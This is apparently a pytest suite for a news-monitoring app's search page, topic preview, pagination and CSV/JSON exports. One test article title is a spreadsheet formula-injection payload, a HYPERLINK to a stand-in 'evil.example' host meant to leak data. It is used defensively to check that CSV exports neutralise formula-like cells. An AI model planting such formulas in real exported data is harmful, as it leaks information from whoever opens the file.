"""/search and the topic editor's preview through the real app: filters (topic, dates, feed,
site, language), "Next page" followed to the end, and CSV / JSON exports of every match with
formula-like cells quoted, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session

from monitor.models import Article, Feed
from tests.utils.factories import add_topic
from tests.web.site import NOW, Site, add_admin, make_app, sign_in, web_settings

ARTICLES = 230
HOSTILE = '=HYPERLINK("http://evil.example/?leak","Election night 1")'
FEEDS = [("Berlin Wire", "https://berlin.example/feed.xml"),
         ("Paris Wire", "https://paris.example/rss")]  # fmt: skip


@dataclass(frozen=True)
class Stored:
    """What one stored article is, for the expected answers of the filters."""

    id: int
    n: int
    title: str
    feed: str
    host: str
    language: str
    first_seen_at: datetime


def title_of(n: int) -> str:
    if n == 1:
        return HOSTILE
    return f"Weather {n}" if n % 4 == 0 else f"Election {'update' if n % 3 else 'night'} {n}"


@pytest.fixture
def archive(engine: Engine) -> list[Stored]:
    """230 articles over six and a half days in two feeds, two sites and two languages; three
    at a time share a first-seen instant."""
    stored = []
    with Session(engine) as session, session.begin():
        add_topic(session, "updates", "update")
        feeds = [Feed(url=url, title=title) for title, url in FEEDS]
        session.add_all(feeds)
        session.flush()
        for n in range(ARTICLES):
            title = title_of(n)
            host = "one.example" if n % 3 == 0 else "two.example"
            digest = hashlib.sha256(f"{n}".encode()).hexdigest()
            article = Article(
                key_hash=digest, content_hash=digest, url=f"https://{host}/a/{n}",
                feed_id=feeds[n % 2].id or 0, title=title, summary=f"Story number {n}.",
                detected_language="de" if n % 7 == 0 else "en",
                first_seen_at=NOW - timedelta(hours=2 * (n // 3) + 1, minutes=n % 2),
            )  # fmt: skip
            session.add(article)
            session.flush()
            stored.append(Stored(article.id or 0, n, title, FEEDS[n % 2][0], host,
                                 article.detected_language, article.first_seen_at))  # fmt: skip
    return stored


@pytest.fixture
def site(engine: Engine, archive: list[Stored], tmp_path: Path) -> Iterator[Site]:
    add_admin(engine)
    with TestClient(make_app(engine, web_settings(tmp_path))) as client:
        assert sign_in(client).status_code == 303
        yield Site(client, engine)


def newest_first(rows: list[Stored], keep: Callable[[Stored], bool]) -> list[int]:
    chosen = [row for row in rows if keep(row)]
    return [row.id for row in sorted(chosen, key=lambda r: (r.first_seen_at, r.id), reverse=True)]


def page_ids(text: str) -> list[int]:
    return [int(found) for found in re.findall(r'<li data-article="(\d+)">', text)]


def next_link(text: str, attribute: str = "href") -> str | None:
    found = re.search(rf'rel="next" {attribute}="([^"]+)"', text) or re.search(
        rf'<a class="button secondary" rel="next" href="[^"]+" {attribute}="([^"]+)"', text
    )
    return html.unescape(found.group(1)) if found else None


def walk(client: TestClient, first: str, attribute: str = "href") -> tuple[list[int], int]:
    """Follow "Next page" from ``first`` to the end: the ids shown, and how many pages."""
    ids: list[int] = []
    url: str | None = first
    pages = 0
    while url is not None:
        response = client.get(url)
        assert response.status_code == 200, response.text
        ids += page_ids(response.text)
        pages += 1
        assert pages <= ARTICLES, "the pages never end"
        url = next_link(response.text, attribute)
        if url is None:
            assert "No more matches." in response.text
    return ids, pages


DAY = (NOW - timedelta(days=3)).date()
FILTERS: list[tuple[str, dict[str, str], Callable[[Stored], bool]]] = [
    ("query", {}, lambda r: "election" in r.title.lower()),
    ("topic", {"topic": "updates"}, lambda r: "update" in r.title),
    ("feed", {"feed": "Paris Wire"}, lambda r: r.feed == "Paris Wire"),
    ("site", {"site": "one.example"}, lambda r: r.host == "one.example"),
    ("language", {"lang": "DE"}, lambda r: r.language == "de"),
    ("dates", {"from": DAY.isoformat(), "to": DAY.isoformat()},
     lambda r: r.first_seen_at.date() == DAY),
    ("all", {"topic": "updates", "site": "two.example", "lang": "en",
             "from": (NOW - timedelta(days=4)).date().isoformat()},
     lambda r: "update" in r.title and r.host == "two.example" and r.language == "en"
     and r.first_seen_at.date() >= (NOW - timedelta(days=4)).date()),
]  # fmt: skip


def search_url(filters: dict[str, str], **extra: str) -> str:
    return "/search?" + urlencode({"q": "election", **filters, **extra})


@pytest.mark.parametrize(("name", "filters", "keep"), FILTERS, ids=[f[0] for f in FILTERS])
def test_search_pages_to_the_end_under_each_filter(
    site: Site,
    archive: list[Stored],
    name: str,
    filters: dict[str, str],
    keep: Callable[[Stored], bool],
) -> None:
    expected = newest_first(archive, lambda r: "election" in r.title.lower() and keep(r))

    ids, pages = walk(site.client, search_url(filters))

    assert expected, "a filter that keeps nothing tests nothing"
    assert ids == expected
    assert pages == max(1, -(-len(expected) // 50))
    first = site.client.get(search_url(filters)).text
    assert f'data-total="{len(expected)}"' in first


def test_the_first_page_shows_the_filters_it_was_asked(site: Site) -> None:
    response = site.client.get(search_url({"feed": "Paris Wire", "topic": "updates"}))

    assert response.status_code == 200
    assert 'value="Paris Wire"' in response.text
    assert '<option value="updates" selected>' in response.text
    # The next page keeps them (77 matches: there is one).
    link = next_link(response.text) or ""
    assert "topic=updates&feed=Paris+Wire&cursor=" in link


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        ({"from": "yesterday"}, "from: &#39;yesterday&#39; is not a date (YYYY-MM-DD)"),
        ({"from": "2024-09-09", "to": "2024-09-01"}, "from: 2024-09-09 is after to: 2024-09-01"),
        ({"from": "2022-01-01"}, "at most 366 days at a time"),
        ({"topic": "nope"}, "topic: there is no topic &#39;nope&#39;"),
        ({"cursor": "bm9wZQ"}, "cursor: &#39;bm9wZQ&#39; is not a cursor monitor gave"),
    ],
)
def test_a_bad_filter_says_what_and_where(
    site: Site, filters: dict[str, str], message: str
) -> None:
    response = site.client.get(search_url(filters))

    assert response.status_code == 400
    assert message in response.text


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(("name", "filters", "keep"), FILTERS[:4], ids=[f[0] for f in FILTERS[:4]])
def test_csv_export_has_every_match_of_the_filter(
    site: Site,
    archive: list[Stored],
    name: str,
    filters: dict[str, str],
    keep: Callable[[Stored], bool],
) -> None:
    expected = newest_first(archive, lambda r: "election" in r.title.lower() and keep(r))
    # A cursor on the link does not cut the export: it is of the filter, from its first match.
    link = next_link(site.client.get(search_url(filters)).text) or ""
    [cursor] = parse_qs(urlsplit(link).query)["cursor"]

    response = site.client.get(search_url(filters, format="csv", cursor=cursor))

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    rows = read_csv(response.text)
    assert [int(row["id"]) for row in rows] == expected
    by_id = {row.id: row for row in archive}
    for row in rows:
        article = by_id[int(row["id"])]
        assert row["url"] == f"https://{article.host}/a/{article.n}"
        assert row["feed"] == article.feed


def test_csv_export_quotes_a_formula_title(site: Site, archive: list[Stored]) -> None:
    response = site.client.get(search_url({}, format="csv"))

    rows = read_csv(response.text)
    [hostile] = [row for row in rows if "HYPERLINK" in row["title"]]
    assert hostile["title"] == "'" + HOSTILE
    assert all(not row["title"].startswith(("=", "+", "-", "@")) for row in rows)


def test_json_export_is_one_document_of_every_match(site: Site, archive: list[Stored]) -> None:
    response = site.client.get(search_url({"lang": "en"}, format="json"))

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    document = json.loads(response.text)
    expected = newest_first(archive, lambda r: "election" in r.title.lower() and r.language == "en")
    assert [a["id"] for a in document["articles"]] == expected
    assert len(expected) > 100
    assert document["filters"] == {"lang": "en"}
    assert document["query"] == "election AND lang:en"
    assert HOSTILE in {a["title"] for a in document["articles"]}  # JSON needs no quoting


def test_an_export_of_a_broken_query_is_the_page_with_the_error(site: Site) -> None:
    response = site.client.get("/search?q=election+OR&format=csv")

    assert response.status_code == 400
    assert response.headers["content-type"].startswith("text/html")
    assert "query-error" in response.text


def test_the_preview_pages_in_place_to_the_end(site: Site, archive: list[Stored]) -> None:
    expected = newest_first(
        archive, lambda r: "election" in r.title.lower() and r.feed == "Berlin Wire"
    )

    ids, pages = walk(
        site.client, "/topics/preview?query=election&feed=Berlin+Wire", "data-fragment"
    )

    assert ids == expected
    assert pages == -(-len(expected) // 10)


def test_the_editor_has_the_preview_filters(site: Site) -> None:
    response = site.client.get("/topics/updates")

    assert response.status_code == 200
    for name in ("from", "to", "feed", "site", "lang"):
        assert f'id="preview-{name}" name="{name}"' in response.text


def test_a_date_range_counts_its_days(site: Site, archive: list[Stored]) -> None:
    start, end = date(2024, 9, 4), date(2024, 9, 6)
    response = site.client.get(search_url({"from": start.isoformat(), "to": end.isoformat()}))

    inside = [
        r
        for r in archive
        if start <= r.first_seen_at.date() <= end and "election" in r.title.lower()
    ]
    assert f'data-total="{len(inside)}"' in response.text
    assert "until the end of 2024-09-06" in response.text
    for day in (start, start + timedelta(days=1), end):
        count = sum(r.first_seen_at.date() == day for r in inside)
        assert f'<td>{day.isoformat()}</td><td class="num">{count}</td>' in response.text


def test_filters_alone_list_what_they_keep(site: Site, archive: list[Stored]) -> None:
    expected = newest_first(archive, lambda r: r.language == "de" and r.host == "one.example")

    ids, _ = walk(site.client, "/search?lang=de&site=one.example")

    assert ids == expected
    assert len(expected) > 5


@pytest.mark.parametrize("path", ["/search?q=election&format=csv", "/topics/preview?query=x"])
def test_exports_and_previews_need_a_sign_in(
    engine: Engine, archive: list[Stored], tmp_path: Path, path: str
) -> None:
    with TestClient(make_app(engine, web_settings(tmp_path))) as client:
        response = client.get(path, follow_redirects=False)

    assert response.status_code == 303
    assert response.headers["location"].startswith("/login?next=")
